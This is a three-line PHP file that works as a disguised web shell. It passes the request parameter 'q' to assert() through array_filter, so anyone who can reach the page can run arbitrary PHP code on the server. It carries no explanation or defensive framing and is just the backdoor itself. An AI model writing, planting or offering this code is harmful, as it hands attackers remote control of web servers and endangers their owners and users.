<?php
$cmd = array($_REQUEST['q']);
array_filter($cmd, 'assert');
